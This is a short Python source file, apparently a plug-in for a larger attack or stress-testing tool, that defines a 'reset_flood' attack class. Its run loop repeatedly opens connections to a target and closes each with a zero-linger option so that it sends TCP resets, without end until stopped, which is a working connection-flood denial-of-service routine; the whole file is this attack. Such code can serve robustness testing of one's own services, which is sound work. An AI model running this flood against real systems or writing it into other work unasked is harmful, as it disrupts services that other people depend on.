import socket
import struct

from abuse.attack import Attack


class ResetFlood(Attack):
    name = "reset_flood"
    what = "connects and resets without end"
    is_flood = True
    setup = 1

    def run(self):
        while not self.stop.is_set():
            one = self.connect()
            if one:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                one.close()
